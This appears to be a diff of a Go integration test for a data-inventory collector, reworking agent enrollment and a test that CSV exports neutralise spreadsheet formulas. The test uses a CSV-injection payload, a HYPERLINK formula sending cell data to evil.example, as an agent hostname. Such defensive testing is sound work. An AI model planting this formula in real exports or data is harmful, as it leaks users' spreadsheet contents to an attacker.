@@ -22,7 +22,9 @@ import (
 // returns its id and token.
 func (s *stack) enrollHTTP(hostname string) creds {
 	s.t.Helper()
-	st, body := s.do("POST", "/api/v1/agents/enroll", "", `{"enroll_secret":"`+s.enroll+`","hostname":"`+hostname+`"}`)
+	req, err := json.Marshal(map[string]string{"enroll_secret": s.enroll, "hostname": hostname})
+	require.NoError(s.t, err)
+	st, body := s.do("POST", "/api/v1/agents/enroll", "", string(req))
 	require.Equal(s.t, http.StatusCreated, st, body)
 	var c creds
 	require.NoError(s.t, json.Unmarshal([]byte(body), &c))
@@ -159,22 +161,22 @@ func TestGzipBombsKeepTheCollectorBounded(t *testing.T) {
 	})
 }
 
-// TestExportsAndReviewerScope: a formula in an agent-reported host name and
-// in a revoke comment comes out of both CSV exports neutralised, and a
-// reviewer cannot read a campaign they have no item in.
+// TestExportsAndReviewerScope: a formula in an agent's host name (the data
+// map's system for its files) and in a revoke comment comes out of both
+// CSV exports neutralised, and a reviewer cannot read a campaign they have
+// no item in.
 func TestExportsAndReviewerScope(t *testing.T) {
 	s := newStack(t, clickhouseAddr(t))
-	a := s.enrollHTTP("web-1")
 	const formula = `=HYPERLINK("http://evil.example/?d="&A1,"open")`
-	hostJSON, _ := json.Marshal(formula)
+	a := s.enrollHTTP(formula)
 	now := time.Now().UTC().Truncate(time.Second).Format(time.RFC3339)
 	env := func(kind, source, scan string) string {
 		return `"kind":"` + kind + `","source":"` + source + `","scan_id":"` + scan + `","observed_at":"` + now + `"`
 	}
 	st, b := s.ingestAs(a.Token, "k1",
-		`{`+env("asset", "fs", "fs1")+`,"host":`+string(hostJSON)+`,"asset_id":"f1","asset_type":"file","location":"file:///srv/hr/people.csv","owner":"root"}`,
-		`{`+env("pii", "fs", "fs1")+`,"host":`+string(hostJSON)+`,"asset_id":"f1","location":"file:///srv/hr/people.csv","type":"email","category":"contact","count":5,"distinct":3}`,
-		`{`+env("scan", "fs", "fs1")+`,"host":`+string(hostJSON)+`,"scanner":"fs","started_at":"`+now+`","finished_at":"`+now+`","status":"ok"}`,
+		`{`+env("asset", "fs", "fs1")+`,"asset_id":"f1","asset_type":"file","location":"file:///srv/hr/people.csv","owner":"root"}`,
+		`{`+env("pii", "fs", "fs1")+`,"asset_id":"f1","location":"file:///srv/hr/people.csv","type":"email","category":"contact","count":5,"distinct":3}`,
+		`{`+env("scan", "fs", "fs1")+`,"scanner":"fs","started_at":"`+now+`","finished_at":"`+now+`","status":"ok"}`,
 		`{`+env("principal", "host", "h1")+`,"principal_id":"u1@web-1","name":"deploy","principal_type":"user","privileged":true}`,
 		`{`+env("entitlement", "host", "h1")+`,"principal_id":"u1@web-1","resource_id":"host://web-1","resource_type":"host","permission":"sudo","privileged":true}`,
 		`{`+env("scan", "host", "h1")+`,"scanner":"host","started_at":"`+now+`","finished_at":"`+now+`","status":"ok"}`)
